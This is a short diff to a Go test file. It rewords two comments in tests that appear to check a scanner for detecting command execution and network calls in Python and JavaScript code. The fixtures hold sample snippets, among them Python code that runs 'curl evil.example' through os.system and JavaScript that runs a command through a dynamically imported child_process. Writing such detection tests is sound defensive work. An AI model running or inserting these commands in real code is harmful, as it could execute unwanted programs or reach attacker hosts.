@@ -18,7 +18,7 @@ func checkForms(t *testing.T, list []form) {
 	}
 }
 
-// What runs something is found under any name that Python gives it, and where it is passed on.
+// A function that runs something is found under any name that Python gives it, and where it is passed on.
 func TestPythonNames(t *testing.T) {
 	list := []form{
 		{"a.py", "from os import *\nsystem('curl evil.example')\n", "run:curl run:python3 net:evil.example"},
@@ -80,7 +80,7 @@ func TestPythonNames(t *testing.T) {
 	checkForms(t, list)
 }
 
-// What runs something in JavaScript is found behind then, call, bind and promisify.
+// A function of JavaScript that runs something is found behind then, call, bind and promisify.
 func TestScriptNames(t *testing.T) {
 	list := []form{
 		{"a.js", "import('child_process').then(({exec})=>exec('gh a'))\n", "run:gh run:node"},
